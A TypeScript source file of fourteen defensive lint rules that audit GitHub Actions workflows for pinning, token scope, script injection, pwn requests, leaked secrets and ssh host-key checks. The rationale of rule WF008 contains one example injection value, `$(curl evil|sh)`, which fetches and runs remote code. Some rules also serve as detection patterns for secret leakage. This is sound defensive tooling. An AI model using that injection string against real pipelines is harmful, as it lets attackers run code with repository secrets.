import type { Hit, RepoView, Rule } from "./types.js";
import { allSteps, asObj, envOf, isObj, jobsOf, type StepAt, stepsOfJob, str, triggersOf } from "./walk.js";
import {
  CHECK_COMMAND,
  DEPLOY_NAME,
  DEPLOY_STEP,
  DEPRECATED_ACTIONS,
  PINNED_USES,
  SCOPELESS_ACTION,
  STATIC_KEY_INPUT,
  STATIC_KEY_SECRET,
  SWALLOW,
  untrustedIn,
  WRITE_SCOPE_USERS,
} from "./workflow-patterns.js";

const type = "workflow";

const hit = (at: StepAt, message: string): Hit => ({ file: at.file.path, line: at.file.lineOf(at.path), message: `${at.where}: ${message}` });
const steps = (repo: RepoView): StepAt[] => allSteps(repo.workflows, repo.actions);
const runOf = (at: StepAt): string | undefined => str(at.step.run);

export const workflowRules: readonly Rule[] = [
  {
    id: "WF001",
    type,
    title: "Every action is pinned to a full commit SHA",
    severity: "high",
    rationale: "A tag or branch can be moved to malicious code by whoever controls the action's repository (tj-actions/changed-files, 2025); a commit SHA cannot.",
    fix: "Replace `@v4` by `@<40-hex commit SHA> # v4.x.y`; Dependabot's github-actions ecosystem keeps both current.",
    check: (repo) => [
      ...steps(repo).flatMap((at) => {
        const uses = str(at.step.uses);
        return uses !== undefined && !PINNED_USES.test(uses) ? [hit(at, `uses ${uses}, not pinned to a full commit SHA`)] : [];
      }),
      ...repo.workflows.flatMap((w) =>
        jobsOf(w).flatMap((job) => {
          const uses = str(job.job.uses);
          return uses !== undefined && !PINNED_USES.test(uses) ? [{ file: w.path, line: w.lineOf([...job.path, "uses"]), message: `jobs.${job.id} calls ${uses}, not pinned to a full commit SHA` }] : [];
        }),
      ),
    ],
  },
  {
    id: "WF002",
    type,
    title: "Permissions are read-only at the top, write only on the job that needs it",
    severity: "medium",
    rationale: "Without a permissions block GITHUB_TOKEN gets the repository's default, often read-write on everything; a compromised step then can push code or releases.",
    fix: "Add `permissions: {}` (or `contents: read`) at the top of the workflow and grant write scopes per job.",
    check: (repo) =>
      repo.workflows.flatMap((w) => {
        const hits: Hit[] = [];
        const top = asObj(w.data).permissions;
        const jobs = jobsOf(w);
        const writes = (p: unknown): boolean => p === "write-all" || (isObj(p) && Object.values(p).some((v) => v === "write"));
        if (top === undefined) {
          if (!jobs.every((j) => j.job.permissions !== undefined)) hits.push({ file: w.path, line: 1, message: "no top-level permissions: the token gets the repository default" });
        } else if (writes(top) || top === "write-all") {
          hits.push({ file: w.path, line: w.lineOf(["permissions"]), message: `top-level permissions grant write (${JSON.stringify(top)}); move write scopes to the jobs that need them` });
        }
        for (const job of jobs) {
          if (job.job.permissions === "write-all") hits.push({ file: w.path, line: w.lineOf([...job.path, "permissions"]), message: `jobs.${job.id} asks for write-all` });
        }
        return hits;
      }),
  },
  {
    id: "WF003",
    type,
    title: "A job's write scope is used by one of its steps",
    severity: "medium",
    rationale: "A write scope no step needs only widens what a compromised step can do. Judged for jobs whose steps are all run steps or actions known to need no scope (checkout, setup-*, cache, artifacts); another action may use the scope inside.",
    fix: "Drop the unused scope from the job's permissions.",
    check: (repo) =>
      repo.workflows.flatMap((w) =>
        jobsOf(w).flatMap((job) => {
          if (!isObj(job.job.permissions)) return [];
          const steps = stepsOfJob(job);
          const texts = steps.flatMap((s) => [str(s.step.uses) ?? "", str(s.step.run) ?? ""]);
          // Any other action may use the scope inside (a SARIF upload, a PyPI trusted publish): not judged.
          const opaque = steps.some((s) => str(s.step.uses) !== undefined && !SCOPELESS_ACTION.test(str(s.step.uses)!));
          return Object.entries(job.job.permissions).flatMap(([scope, level]) => {
            const users = WRITE_SCOPE_USERS[scope];
            return level === "write" && users && !texts.some((t) => users.test(t)) && !opaque
              ? [{ file: w.path, line: w.lineOf([...job.path, "permissions", scope]), message: `jobs.${job.id} asks for ${scope}: write but no step uses it` }]
              : [];
          });
        }),
      ),
  },
  {
    id: "WF004",
    type,
    title: "actions/checkout does not leave the token in .git/config",
    severity: "medium",
    rationale: "By default checkout persists GITHUB_TOKEN in the clone, where every later step (and any uploaded artifact of the workspace) can read it.",
    fix: "Add `with: { persist-credentials: false }` to the checkout step; steps that push authenticate explicitly.",
    check: (repo) =>
      steps(repo).flatMap((at) => {
        if (!/^actions\/checkout@/.test(str(at.step.uses) ?? "")) return [];
        const persist = asObj(at.step.with)["persist-credentials"];
        return persist === false || persist === "false" ? [] : [hit(at, "checks out without persist-credentials: false")];
      }),
  },
  {
    id: "WF005",
    type,
    title: "Every job has timeout-minutes",
    severity: "low",
    rationale: "A hung job holds a runner for GitHub's default of 6 hours, and blocks the deploys queued behind it.",
    fix: "Add `timeout-minutes:` to the job, a few times its usual duration.",
    check: (repo) =>
      repo.workflows.flatMap((w) =>
        jobsOf(w).flatMap((job) =>
          job.job.uses === undefined && job.job["timeout-minutes"] === undefined
            ? [{ file: w.path, line: w.lineOf(job.path), message: `jobs.${job.id} has no timeout-minutes` }]
            : [],
        ),
      ),
  },
  {
    id: "WF006",
    type,
    title: "Deploy jobs run one at a time, never cancelled midway",
    severity: "medium",
    rationale: "Two deploys of the same environment racing, or one cancelled halfway through a migration, leave production in a state nobody released.",
    fix: "Add `concurrency: { group: deploy-<environment>, cancel-in-progress: false }` to the workflow or the deploy job.",
    check: (repo) =>
      repo.workflows.flatMap((w) => {
        const top = asObj(w.data).concurrency;
        return jobsOf(w).flatMap((job) => {
          const isDeploy = DEPLOY_NAME.test(`${job.id} ${str(job.job.name) ?? ""}`) || (job.job.environment !== undefined && stepsOfJob(job).some((s) => DEPLOY_STEP.test(`${str(s.step.uses) ?? ""} ${str(s.step.run) ?? ""}`)));
          if (!isDeploy || job.job.uses !== undefined) return [];
          const own = job.job.concurrency;
          const effective = own ?? top;
          if (effective === undefined) return [{ file: w.path, line: w.lineOf(job.path), message: `jobs.${job.id} deploys without concurrency` }];
          const cancel = isObj(effective) ? effective["cancel-in-progress"] : undefined;
          return cancel === undefined || cancel === false || cancel === "false"
            ? []
            : [{ file: w.path, line: w.lineOf(own !== undefined ? [...job.path, "concurrency"] : ["concurrency"]), message: `jobs.${job.id} deploys with cancel-in-progress: ${String(cancel)}` }];
        });
      }),
  },
  {
    id: "WF007",
    type,
    title: "Cloud login uses OIDC, not long-lived keys",
    severity: "high",
    rationale: "A stored cloud key works from anywhere until someone rotates it; an OIDC token is minted per run and scoped to this repository and branch.",
    fix: "Grant `id-token: write` to the job and log in with the cloud's OIDC role (role-to-assume, workload_identity_provider, client-id), then delete the stored key.",
    check: (repo) =>
      repo.workflows.flatMap((w) => {
        const hits: Hit[] = [];
        for (const job of jobsOf(w)) {
          for (const [k, v] of Object.entries(asObj(job.job.env))) {
            if (STATIC_KEY_SECRET.test(String(v))) hits.push({ file: w.path, line: w.lineOf([...job.path, "env", k]), message: `jobs.${job.id} env ${k} holds a long-lived cloud key` });
          }
        }
        for (const at of allSteps([w], [])) {
          const action = (str(at.step.uses) ?? "").split("@")[0]!.toLowerCase();
          const input = STATIC_KEY_INPUT[action];
          const withs = asObj(at.step.with);
          if (input && withs[input] !== undefined) hits.push(hit(at, `${action} logs in with ${input}, a long-lived key`));
          else if (STATIC_KEY_SECRET.test(JSON.stringify([at.step.env ?? {}, at.step.with ?? {}, at.step.run ?? ""]))) hits.push(hit(at, "uses a long-lived cloud key from secrets"));
        }
        return hits;
      }),
  },
  {
    id: "WF008",
    type,
    title: "No untrusted expression is expanded inside a script",
    severity: "high",
    rationale: "`${{ }}` is pasted into the script before the shell runs: a PR title or branch name like `$(curl evil|sh)` becomes code (script injection).",
    fix: "Pass the value through `env:` (`TITLE: ${{ github.event.pull_request.title }}`) and use `\"$TITLE\"` in the script.",
    check: (repo) =>
      steps(repo).flatMap((at) => {
        const script = runOf(at) ?? (/^actions\/github-script@/.test(str(at.step.uses) ?? "") ? str(asObj(at.step.with).script) : undefined);
        const ref = script === undefined ? undefined : untrustedIn(script);
        return ref ? [hit(at, `expands \${{ ${ref} }} inside the script; pass it through env:`)] : [];
      }),
  },
  {
    id: "WF009",
    type,
    title: "pull_request_target and workflow_run never check out the pull request's code",
    severity: "critical",
    rationale: "These triggers run with a write token and secrets; building or running the PR's code there hands both to any fork (\"pwn request\").",
    fix: "Use the `pull_request` trigger for anything that runs PR code; keep `pull_request_target` to labelling and commenting, without checkout of the head.",
    check: (repo) =>
      repo.workflows.flatMap((w) => {
        const privileged = triggersOf(w).filter((t) => t === "pull_request_target" || t === "workflow_run");
        if (privileged.length === 0) return [];
        return allSteps([w], []).flatMap((at) => {
          const uses = str(at.step.uses) ?? "";
          const ref = String(asObj(at.step.with).ref ?? "") + String(asObj(at.step.with).repository ?? "");
          const checksOutHead =
            (/^actions\/checkout@/.test(uses) && /github\.event\.(pull_request\.head|workflow_run\.head)|github\.head_ref|refs\/pull\//.test(ref)) ||
            /\bgh pr checkout\b|git (fetch|checkout)[^\n]*(refs\/pull|github\.head_ref|pull_request\.head)/.test(runOf(at) ?? "");
          return checksOutHead ? [hit(at, `checks out the pull request's code under ${privileged.join(", ")}`)] : [];
        });
      }),
  },
  {
    id: "WF010",
    type,
    title: "No secret is echoed to the log",
    severity: "high",
    rationale: "GitHub masks a secret only in the exact form it was stored; an echoed, transformed or partial value (base64, JSON, a multi-line key) reaches the public log.",
    fix: "Pipe the secret into the command that needs it (`--password-stdin`), or write it to a file; never echo it.",
    check: (repo) =>
      steps(repo).flatMap((at) => {
        const run = runOf(at);
        if (run === undefined) return [];
        const env = envOf(at);
        const secretVars = Object.keys(env).filter((k) => /\$\{\{\s*secrets\./.test(env[k]!));
        const lines = run.split("\n").filter((l) => /^\s*(echo|printf)\b/.test(l) && !/[|>]/.test(l.replace(/"[^"]*\|[^"]*"/g, "")) && !/::add-mask::/.test(l));
        const leaks = lines.filter((l) => /\$\{\{\s*secrets\./.test(l) || secretVars.some((v) => new RegExp(`\\$\\{?${v}\\b`).test(l)));
        return leaks.length > 0 ? [hit(at, `prints a secret: ${leaks[0]!.trim()}`)] : [];
      }),
  },
  {
    id: "WF011",
    type,
    title: "Lint, type-check and test failures fail the job",
    severity: "medium",
    rationale: "`|| true` or `set +e` in front of a check turns every regression into a green build.",
    fix: "Remove `|| true` / `set +e`; if the check is noisy, fix or configure the check itself.",
    check: (repo) =>
      steps(repo).flatMap((at) => {
        const run = runOf(at);
        if (run === undefined) return [];
        const swallowed = run.split("\n").find((l) => CHECK_COMMAND.test(l) && SWALLOW.test(l));
        const setE = /^\s*set\s+\+e\b/m.exec(run);
        const afterSetE = setE ? CHECK_COMMAND.test(run.slice(setE.index)) : false;
        if (swallowed) return [hit(at, `turns a failing check into success: ${swallowed.trim()}`)];
        return afterSetE ? [hit(at, "runs a check after set +e, so its failure is ignored")] : [];
      }),
  },
  {
    id: "WF012",
    type,
    title: "ssh verifies the host key",
    severity: "high",
    rationale: "StrictHostKeyChecking=no (or accept-new on a fresh runner) lets anyone on the path impersonate the server and receive the deploy key's session.",
    fix: "Store the server's key in a known_hosts secret, write it to ~/.ssh/known_hosts and use StrictHostKeyChecking=yes.",
    check: (repo) =>
      steps(repo).flatMap((at) => {
        const run = runOf(at) ?? "";
        return /StrictHostKeyChecking[= ]+(no|accept-new|off)\b|UserKnownHostsFile[= ]+\/dev\/null/i.test(run) ? [hit(at, "ssh without host key verification")] : [];
      }),
  },
  {
    id: "WF013",
    type,
    title: "No deprecated or archived action",
    severity: "low",
    rationale: "Archived actions get no security fixes and break with runner changes.",
    fix: "Switch to the maintained replacement named in the finding.",
    check: (repo) =>
      steps(repo).flatMap((at) => {
        const name = (str(at.step.uses) ?? "").split("@")[0]!;
        const instead = DEPRECATED_ACTIONS[name];
        return instead ? [hit(at, `${name} is archived; use ${instead}`)] : [];
      }),
  },
  {
    id: "WF014",
    type,
    title: "Waiting is polling with retries, not a bare sleep",
    severity: "low",
    rationale: "A fixed sleep is either too short (flaky) or too long (slow), and never checks that the thing it waits for came up.",
    fix: "Poll the health endpoint with a bounded number of retries (e.g. `curl --retry 30 --retry-all-errors`).",
    check: (repo) => steps(repo).flatMap((at) => (/^\s*sleep\s+\d+[smh]?\s*$/.test(runOf(at) ?? "x") ? [hit(at, "only sleeps")] : [])),
  },
];
